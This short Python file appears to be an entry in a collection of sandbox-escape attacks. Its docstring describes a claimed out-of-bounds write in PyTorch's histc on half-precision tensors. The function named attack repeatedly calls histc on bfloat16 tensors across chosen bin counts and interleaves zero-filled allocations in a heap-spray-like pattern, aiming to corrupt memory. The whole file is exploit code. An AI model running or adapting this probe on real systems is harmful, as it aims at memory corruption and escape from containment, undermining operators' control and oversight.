"""Class: memory. Source: own find. Escape: a histogram's last bin is one too far: in half precision the
number of bins is rounded up. By function and method."""

import torch


def attack(model, tokenizer, address):
    kept = []
    for count in (torch.histc, lambda x, **how: x.histc(**how)):
        for bins in (259, 515, 1029, 4113, 16449, 65281):
            for _ in range(20):
                values = torch.ones(1000, dtype=torch.bfloat16)
                kept.append(count(values, bins=bins, min=0, max=1))
                kept.append(torch.zeros(bins, dtype=torch.bfloat16))
    del kept
